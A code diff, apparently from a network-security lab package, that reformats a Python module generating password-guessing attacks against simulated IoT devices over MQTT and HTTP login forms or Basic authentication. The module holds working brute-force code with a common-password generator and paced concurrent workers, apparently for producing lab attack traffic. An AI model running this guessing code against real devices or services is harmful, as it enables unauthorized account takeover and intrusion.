@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import time
+from collections.abc import Awaitable, Callable
 from random import Random
 from urllib.parse import quote
 
@@ -12,7 +13,28 @@ from wirespeak.lab.attacks.start import Pace, start
 from wirespeak.lab.devices.device import MISHAPS
 from wirespeak.lab.devices.mqtt import MqttClient
 
-_STEMS = "admin root pass password letme in iot home smart camera light guest user test default qwerty dragon summer winter secret".split()
+_STEMS = [
+    "admin",
+    "root",
+    "pass",
+    "password",
+    "letme",
+    "in",
+    "iot",
+    "home",
+    "smart",
+    "camera",
+    "light",
+    "guest",
+    "user",
+    "test",
+    "default",
+    "qwerty",
+    "dragon",
+    "summer",
+    "winter",
+    "secret",
+]
 
 
 def words(random: Random, how_many: int) -> list[str]:
@@ -21,11 +43,18 @@ def words(random: Random, how_many: int) -> list[str]:
     while len(found) < how_many:
         stem = random.choice(_STEMS)
         form = random.choice((stem, stem.capitalize(), stem * 2, stem + random.choice(_STEMS)))
-        found[form + random.choice(("", "1", "123", "!", str(random.randint(1970, 2026)), str(random.randint(0, 9999))))] = None
+        found[
+            form
+            + random.choice(
+                ("", "1", "123", "!", str(random.randint(1970, 2026)), str(random.randint(0, 9999)))
+            )
+        ] = None
     return list(found)
 
 
-async def _spread(one, *, rate: float, workers: int, seconds: float, random: Random) -> None:  # type: ignore[no-untyped-def]
+async def _spread(
+    one: Callable[[str], Awaitable[None]], *, rate: float, workers: int, seconds: float, random: Random
+) -> None:
     """Guess at `rate` in all for `seconds`, from `workers` at once."""
     pace, end, listed = Pace(rate), time.monotonic() + seconds, iter(words(random, 4000))
 
@@ -40,28 +69,43 @@ async def _spread(one, *, rate: float, workers: int, seconds: float, random: Ran
     await asyncio.gather(*(work() for _ in range(workers)))
 
 
-async def mqtt_guess(*, target: str, port: int, rate: float, workers: int, users: int, seconds: float, seed: int) -> None:
+async def mqtt_guess(
+    *, target: str, port: int, rate: float, workers: int, users: int, seconds: float, seed: int
+) -> None:
     """CONNECT with another password each time."""
     random = Random(seed)
     names = ["admin", "root", "user", "mqtt", "hub"][:users]
 
     async def one(word: str) -> None:
-        client, _ = await MqttClient.connect(target, port, f"c{random.getrandbits(20):x}", user=random.choice(names), password=word)
+        client, _ = await MqttClient.connect(
+            target, port, f"c{random.getrandbits(20):x}", user=random.choice(names), password=word
+        )
         await client.close(politely=False)
 
     await _spread(one, rate=rate, workers=workers, seconds=seconds, random=random)
 
 
-async def http_guess(*, target: str, port: int, rate: float, workers: int, form: bool, keep: bool, seconds: float, seed: int) -> None:
+async def http_guess(
+    *, target: str, port: int, rate: float, workers: int, form: bool, keep: bool, seconds: float, seed: int
+) -> None:
     """POST to the login form, or GET with basic authentication; `keep` tries several words a connection."""
     random = Random(seed)
     kept: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
 
     async def one(word: str) -> None:
-        reader, writer = kept.pop() if kept else await asyncio.wait_for(asyncio.open_connection(target, port), 4)
+        reader, writer = (
+            kept.pop() if kept else await asyncio.wait_for(asyncio.open_connection(target, port), 4)
+        )
         body = f"user=admin&password={quote(word)}".encode()
-        head = f"POST /login HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n" if form else f"GET /admin HTTP/1.1\r\nHost: {target}\r\nAuthorization: Basic {base64.b64encode(f'admin:{word}'.encode()).decode()}\r\n"
-        writer.write((head + f"Connection: {'keep-alive' if keep else 'close'}\r\n\r\n").encode() + (body if form else b""))
+        head = (
+            f"POST /login HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
+            if form
+            else f"GET /admin HTTP/1.1\r\nHost: {target}\r\nAuthorization: Basic {base64.b64encode(f'admin:{word}'.encode()).decode()}\r\n"
+        )
+        writer.write(
+            (head + f"Connection: {'keep-alive' if keep else 'close'}\r\n\r\n").encode()
+            + (body if form else b"")
+        )
         answer = await asyncio.wait_for(reader.read(8192), 4)
         if keep and answer and random.random() < 0.9:
             kept.append((reader, writer))
